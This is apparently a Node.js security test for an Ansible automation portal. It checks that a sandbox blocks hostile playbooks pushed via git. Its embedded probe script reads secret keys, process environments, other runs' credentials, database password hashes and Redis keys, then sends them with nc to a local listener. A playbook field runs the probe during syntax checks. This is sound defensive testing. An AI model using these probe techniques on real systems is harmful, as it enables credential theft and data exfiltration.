// Hostile playbooks against the real product (test/support/product.mjs: the backend as its
// own system user, the sandbox on, Redis and PostgreSQL with passwords). A playbook pushed
// by git tries, when it is syntax-checked (by the pre-receive hook on the api, and by the
// worker after the refresh) and when it is ordered on the `local` provider while another
// run is going, to read DATA_DIR/secret.key and DATA_DIR/admin-password, the backend's
// /proc/<pid>/environ, the other run's credentials, to query PostgreSQL and Redis, and to
// write the callback plugin; and it sends whatever it got to a listener of this test.
//
// Every attempt fails. The test proves it by the absence of every secret in what the portal
// stored or showed (job output, events, outputs, the refused push's message, syntax errors,
// every row of the database), in what reached the listener, and in the files left behind;
// and it proves the channels work with a control file of the playbook's own, which does
// come through each of them.
//
// Run: npm test -- drills (TEST_FILTER=hostile), or node --test test/drills/hostile-playbooks.test.mjs
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { ROOT, startProduct } from '../support/product.mjs';

const PLUGIN = path.join(ROOT, 'backend', 'ansible', 'callback_plugins', 'superfluid_events.py');

/** What the probe reads, tries and sends: one shell script, run at syntax-check time (via a play keyword) and as a task. */
function probeScript({ dataDir, backendPid, pgPort, pgDatabase, redisPort, listenerPort }) {
  return `#!/bin/sh
# $1: where it runs from (hosts | task). Prints what it found, and sends it to the test's listener.
if [ -n "$SUPERFLUID_EVENTS_FD" ]; then phase="run-$1"; else phase="syntax-$1"; fi
out=$(mktemp)
{
  echo "PHASE $phase"
  echo "CONTROL $(base64 -w0 control.txt 2>&1)"
  for f in ${dataDir}/secret.key ${dataDir}/admin-password ../../secret.key ../../admin-password ../../../secret.key ../../../admin-password; do
    echo "FILE $f $(base64 -w0 "$f" 2>&1)"
  done
  echo "ENVIRON backend $(base64 -w0 /proc/${backendPid}/environ 2>&1)"
  for p in /proc/[0-9]*; do echo "ENVIRON $p $(base64 -w0 $p/environ 2>&1)"; done
  echo "RUNS $(ls -la ${dataDir} ${dataDir}/runs /dev/shm 2>&1 | tr '\\n' ' ')"
  for f in ${dataDir}/runs/*/credentials/* ${dataDir}/runs/*/credentials/*/* ${dataDir}/runs/*/credentials/.*/* ${dataDir}/runs/*/inventory/group_vars/* /dev/shm/*/* /dev/shm/*/*/* /dev/shm/*/*/*/*; do
    [ -f "$f" ] && echo "CRED $f $(base64 -w0 "$f" 2>&1)"
  done
  echo "PG $(psql -w -h 127.0.0.1 -p ${pgPort} -U postgres -d ${pgDatabase} -Atc "select string_agg(username || ':' || password_hash, ' ') from users" 2>&1 | tr '\\n' ' ')"
  echo "REDIS $(redis-cli -h 127.0.0.1 -p ${redisPort} --no-auth-warning KEYS '*' 2>&1 | head -20 | tr '\\n' ' ')"
  echo "PLUGIN $( (echo '# hacked' >> ${PLUGIN}) 2>&1; echo "rc=$?")"
  echo "PLUGIN-SANDBOX $( (echo '# hacked' >> /opt/superfluid/callback_plugins/superfluid_events.py) 2>&1; echo "rc=$?")"
} > "$out" 2>&1
timeout 10 nc -N 127.0.0.1 ${listenerPort} < "$out" > /dev/null 2>&1
cat "$out"
rm -f "$out"
`;
}

const HOSTILE = `- hosts: "{{ lookup('pipe', 'sh probe.sh hosts > /dev/null 2>&1; echo all') }}"
  gather_facts: false
  tasks:
    - name: probe
      ansible.builtin.command:
        cmd: sh probe.sh task
        chdir: "{{ playbook_dir }}"
      register: probe
    - name: report
      ansible.builtin.set_stats:
        data:
          probe: "{{ probe.stdout }}"
`;

/** Fails its syntax check with the probe's output as the message: what a refused push shows the pusher. */
const REFUSED = `- hosts: all
  gather_facts: "{{ lookup('pipe', 'sh probe.sh refused') }}"
  tasks:
    - ansible.builtin.debug: { msg: never }
`;

const SLEEPY = `- hosts: all
  gather_facts: false
  tasks:
    - name: wait (canceled by the test)
      ansible.builtin.command: sleep 600
`;

/** A TCP listener collecting everything sent to it. */
async function startListener() {
  const received = [];
  const server = createServer((socket) => {
    const chunks = [];
    socket.on('data', (c) => chunks.push(c));
    socket.on('end', () => received.push(Buffer.concat(chunks).toString('utf8')));
    socket.on('error', () => undefined);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: server.address().port, received, close: () => new Promise((resolve) => server.close(resolve)) };
}

function git(cwd, env, ...args) {
  return new Promise((resolve) => {
    const child = spawn('git', ['-c', 'user.name=Test', '-c', 'user.email=test@localhost', ...args], { cwd, env });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    child.on('close', (code) => resolve({ ok: code === 0, out }));
  });
}

async function waitFor(what, check, ms = 240_000) {
  const until = Date.now() + ms;
  for (;;) {
    const value = await check();
    if (value) return value;
    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 250));
  }
}

/** Every file under `dir` (as root). */
async function filesUnder(dir) {
  const found = [];
  for (const entry of await readdir(dir, { withFileTypes: true }).catch(() => [])) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) found.push(...(await filesUnder(full)));
    else if (entry.isFile()) found.push(full);
  }
  return found;
}

describe('hostile playbooks: a sandbox around every Ansible process', () => {
  let product;
  let token;
  let listener;
  let clone;
  let gitEnv;
  let pluginHash;
  let probe;
  const secrets = {};
  const control = `control-${randomBytes(8).toString('hex')}`;

  const api = async (query, variables = {}) => {
    const body = await product.graphql(query, variables, token);
    assert.equal(body.errors, undefined, `GraphQL errors: ${JSON.stringify(body.errors)}`);
    return body.data;
  };

  before(async () => {
    pluginHash = createHash('sha256')
      .update(await readFile(PLUGIN))
      .digest('hex');
    listener = await startListener();
    secrets.environ = `environ-canary-${randomBytes(8).toString('hex')}`;
    // No ADMIN_PASSWORD and no SECRET_KEY: the backend generates both and keeps them in DATA_DIR.
    product = await startProduct({ env: { ADMIN_PASSWORD: '', SECRET_KEY: '', HOSTILE_TEST_CANARY: secrets.environ }, timeoutMs: 180_000 });
    secrets.adminPassword = (await readFile(path.join(product.dataDir, 'admin-password'), 'utf8')).trim();
    const key = await readFile(path.join(product.dataDir, 'secret.key'));
    secrets.secretKeyBase64 = key.toString('base64');
    secrets.secretKeyHex = key.toString('hex');
    const db = new URL(product.env.DATABASE_URL);
    secrets.pgPassword = decodeURIComponent(db.password);
    const redis = new URL(product.env.REDIS_URL);
    assert.ok(redis.password, 'the product’s Redis has a password');
    secrets.redisPassword = decodeURIComponent(redis.password);
    secrets.victimPassword = `victim-become-${randomBytes(8).toString('hex')}`;
    token = await product.login('admin', secrets.adminPassword);

    const { createApiToken } = await api('mutation { createApiToken(name: "hostile test") { token } }');
    gitEnv = {
      ...process.env,
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'http.extraHeader',
      GIT_CONFIG_VALUE_0: `Authorization: Basic ${Buffer.from(`anyone:${createApiToken.token}`).toString('base64')}`,
      GIT_TERMINAL_PROMPT: '0',
    };
    // A hosted repository of its own: its syntax checks are the probe's, not those of the built-in playbooks.
    await api('mutation { createGitRepo(input: { name: "hostile", hosted: true }) { id } }');
    clone = await mkdtemp(path.join(tmpdir(), 'hostile-clone-'));
    const cloned = await git(clone, gitEnv, 'clone', '--quiet', `${product.url}/git/hostile.git`, '.');
    assert.ok(cloned.ok, cloned.out);
    probe = probeScript({
      dataDir: product.dataDir,
      backendPid: product.process.pid,
      pgPort: db.port,
      pgDatabase: db.pathname.slice(1),
      redisPort: redis.port,
      listenerPort: listener.port,
    });
  });

  /** Commits the probe, its control file and `files`, and pushes. */
  const push = async (files, message) => {
    for (const [name, text] of Object.entries({ 'control.txt': control, 'probe.sh': probe, ...files })) await writeFile(path.join(clone, name), text);
    await git(clone, gitEnv, 'add', '--all');
    await git(clone, gitEnv, 'commit', '--quiet', '-m', message);
    return git(clone, gitEnv, 'push', 'origin', 'HEAD:main');
  };

  after(async () => {
    await product?.stop();
    await listener?.close();
    if (clone) await rm(clone, { recursive: true, force: true });
  });

  const stored = { texts: [] };

  test('the probe, pushed, runs in the syntax checks of the pre-receive hook and of the worker, which pass it', async () => {
    const pushed = await push({ 'hostile.yml': HOSTILE, 'sleepy.yml': SLEEPY }, 'hostile probe');
    assert.ok(pushed.ok, `the push is accepted: ${pushed.out}`);
    stored.texts.push(['accepted push output', pushed.out]);

    const { gitRepos } = await api('{ gitRepos { id name playbooks { path syntaxStatus syntaxError } } }');
    const repo = gitRepos.find((r) => r.name === 'hostile');
    // The worker checks the new playbooks too (in its own sandbox): wait for it.
    const checked = await waitFor(
      'the worker’s syntax checks',
      async () => {
        const { gitRepo } = await api('query($id: ID!) { gitRepo(id: $id) { playbooks { path syntaxStatus syntaxError } } }', { id: repo.id });
        const mine = gitRepo.playbooks.filter((p) => p.path === 'hostile.yml' || p.path === 'sleepy.yml');
        return mine.length === 2 && mine.every((p) => p.syntaxStatus !== 'pending') ? mine : null;
      },
      900_000,
    );
    for (const p of checked) {
      assert.equal(p.syntaxStatus, 'ok', `${p.path}: ${p.syntaxError}`);
      stored.texts.push([`syntax error of ${p.path}`, p.syntaxError ?? '']);
    }
  });

  test('a push whose syntax check runs the probe is refused, and its message carries the control file but no secret', async () => {
    const pushed = await push({ 'refused.yml': REFUSED }, 'refused probe');
    assert.equal(pushed.ok, false, 'the push is refused');
    assert.match(pushed.out, /Superfluid refused this push/);
    assert.match(pushed.out, /PHASE syntax-refused/, 'the probe ran during the check, and its output is in the message');
    assert.match(pushed.out, new RegExp(Buffer.from(control).toString('base64').slice(0, 16)), 'the control file came through');
    stored.texts.push(['refused push output', pushed.out]);
    await git(clone, gitEnv, 'reset', '--quiet', '--hard', 'HEAD~1');
  });

  test('the probe, ordered on local while another run goes, reaches none of the secrets', async () => {
    const { createCredential } = await api('mutation($i: CreateCredentialInput!) { createCredential(input: $i) { id } }', {
      i: { name: 'victim-become', type: 'become_password', inputs: {}, secrets: { password: secrets.victimPassword } },
    });
    const { createProvider } = await api('mutation($i: ProviderInput!) { createProvider(input: $i) { id } }', {
      i: { name: 'victim', type: 'local', becomeCredentialId: createCredential.id, config: {} },
    });
    const { providers } = await api('{ providers { id name } }');
    const local = providers.find((p) => p.name === 'local');
    // Items running the repository's playbooks on the provider the order picks.
    const templates = {};
    for (const playbook of ['hostile.yml', 'sleepy.yml']) {
      const { saveServiceTemplate } = await api('mutation($i: ServiceTemplateInput!) { saveServiceTemplate(input: $i) { id } }', {
        i: {
          definition: {
            name: `Probe ${playbook}`,
            description: 'hostile test',
            catalog: 'Hostile',
            type: 'ansible_playbook',
            dialog: 'run-playbook',
            published: true,
            provision: { repo: 'hostile', playbook, provider: { field: 'provider' } },
          },
        },
      });
      templates[playbook] = saveServiceTemplate.id;
    }
    const order = async (provider, playbook) =>
      (
        await api('mutation($i: OrderServiceInput!) { orderService(input: $i) { id } }', {
          i: { templateId: templates[playbook], dialogValues: { provider, playbook: 'hello.yml' } },
        })
      ).orderService.id;
    const requestOf = async (id) =>
      (
        await api(
          `query($id: ID!) { serviceRequest(id: $id) { id status message jobs { id status stdout error artifacts events(limit: 1000) { event stdout data } } service { outputs } } }`,
          { id },
        )
      ).serviceRequest;

    // The victim: a run holding a credential (a become password in its secret group variables).
    const victim = await order(createProvider.id, 'sleepy.yml');
    const victimJob = await waitFor('the victim run to be running', async () => {
      const r = await requestOf(victim);
      return r.jobs[0]?.status === 'running' ? r.jobs[0] : null;
    });
    // Its credentials are there, in the sandbox's own memory: give its sandbox a moment to exist.
    await new Promise((r) => setTimeout(r, 1000));

    try {
      const hostile = await order(local.id, 'hostile.yml');
      const done = await waitFor('the hostile run to end', async () => {
        const r = await requestOf(hostile);
        return r.status === 'finished' || r.status === 'failed' ? r : null;
      });
      const [job] = done.jobs;
      assert.equal(done.status, 'finished', `${done.message}\n${job?.stdout}`);
      assert.equal(job.status, 'successful', job.error ?? '');
      const report = String(done.service.outputs.probe);
      // The channels work: the control file comes through the job's outputs and the listener.
      assert.match(report, /PHASE run-task/);
      assert.match(report, new RegExp(`CONTROL ${Buffer.from(control).toString('base64')}`));
      assert.ok(
        listener.received.some((m) => m.includes('PHASE run-task') && m.includes(Buffer.from(control).toString('base64'))),
        'the listener heard the run',
      );
      // ...and no syntax check reached the network.
      assert.deepEqual(
        listener.received.filter((m) => /PHASE syntax/.test(m)),
        [],
        'a syntax check has no network',
      );
      // What each attempt met, as the playbook saw it.
      assert.match(report, /FILE \S+secret\.key base64: \S+: No such file or directory/);
      assert.match(report, new RegExp(`ENVIRON backend base64: /proc/${product.process.pid}/environ: No such file or directory`));
      assert.match(report, /PG .*(password|authentication)/i, 'PostgreSQL asks for a password');
      assert.match(report, /REDIS .*NOAUTH/, 'Redis asks for a password');
      assert.match(report, /PLUGIN-SANDBOX .*(Read-only file system|Permission denied).*rc=[1-9]/s);
      assert.match(report, /PLUGIN .*rc=[1-9]/s);
      stored.texts.push(
        ['hostile stdout', job.stdout],
        ['hostile events', JSON.stringify(job.events)],
        ['hostile outputs', JSON.stringify(done.service.outputs)],
      );
    } finally {
      await api('mutation($id: ID!) { cancelJob(id: $id) { id } }', { id: victimJob.id });
    }
    const victimDone = await waitFor('the victim run to end', async () => {
      const r = await requestOf(victim);
      return r.status !== 'running' && r.status !== 'queued' && r.jobs[0]?.status !== 'running' ? r : null;
    });
    assert.equal(victimDone.jobs[0].status, 'canceled');
    stored.texts.push(['victim stdout', victimDone.jobs[0].stdout]);
    stored.texts.push(...listener.received.map((m, i) => [`listener message ${i}`, m]));
  });

  test('no secret is in anything the portal stored or showed, nor in what reached the listener, and the callback plugin is unchanged', async () => {
    assert.ok(stored.texts.length > 3, 'the tests above ran');
    // Every row of every table of the product's database, as text.
    const { default: pg } = await import('pg');
    const client = new pg.Client({ connectionString: product.env.DATABASE_URL });
    await client.connect();
    try {
      const { rows: tables } = await client.query(`SELECT tablename FROM pg_tables WHERE schemaname = 'public'`);
      for (const { tablename } of tables) {
        const { rows } = await client.query(`SELECT t::text AS row FROM ${client.escapeIdentifier(tablename)} t`);
        stored.texts.push([`table ${tablename}`, rows.map((r) => r.row).join('\n')]);
        if (tablename === 'users') secrets.adminHash = /\$argon2[^,)"]+/.exec(rows.map((r) => r.row).join('\n'))?.[0];
      }
    } finally {
      await client.end();
    }
    const leaks = [];
    const canaries = Object.entries(secrets).filter(([, v]) => typeof v === 'string' && v.length >= 8);
    for (const [where, text] of stored.texts) {
      for (const [name, value] of canaries) {
        if (name === 'adminHash' && where === 'table users') continue; // where it belongs
        if (text.includes(value) || text.includes(Buffer.from(value).toString('base64'))) leaks.push(`${name} in ${where}`);
      }
    }
    assert.deepEqual(leaks, [], 'no secret leaked');
    assert.equal(
      createHash('sha256')
        .update(await readFile(PLUGIN))
        .digest('hex'),
      pluginHash,
      'the callback plugin is unchanged',
    );
    // Nothing of the runs is left on disk: their folders (and credential links) went with them.
    const left = await readdir(path.join(product.dataDir, 'runs')).catch(() => []);
    assert.deepEqual(left, [], `run folders left: ${JSON.stringify(await Promise.all(left.map((l) => filesUnder(path.join(product.dataDir, 'runs', l)))))}`);
    for (const file of await filesUnder(product.dataDir)) {
      if (/\/(secret\.key|admin-password|redis\.password)$/.test(file) || /\/(mirrors|git|snapshots)\//.test(file)) continue;
      const text = await readFile(file).catch(() => Buffer.alloc(0));
      for (const [name, value] of canaries) if (text.includes(value)) leaks.push(`${name} in ${file}`);
    }
    assert.deepEqual(leaks, [], 'no file holds a secret');
  });

  test('the backend runs as a user of its own, never as root, and its DATA_DIR is its own (0700)', async () => {
    const status = await readFile(`/proc/${product.process.pid}/status`, 'utf8');
    const uid = Number(/^Uid:\s+(\d+)/m.exec(status)[1]);
    assert.notEqual(uid, 0, 'the product does not run as root');
    const { stat } = await import('node:fs/promises');
    const st = await stat(product.dataDir);
    assert.equal(st.uid, uid);
    assert.equal(st.mode & 0o777, 0o700);
    const refused = await new Promise((resolve) => {
      const child = spawn(process.execPath, [path.join(ROOT, 'backend', 'dist', 'main.js')], {
        env: { PATH: process.env.PATH, DATABASE_URL: product.env.DATABASE_URL, REDIS_URL: product.env.REDIS_URL },
      });
      let err = '';
      child.stderr.on('data', (d) => (err += d));
      child.on('close', (code) => resolve({ code, err }));
    });
    assert.equal(refused.code, 2);
    assert.match(refused.err, /does not run as root/);
  });
});
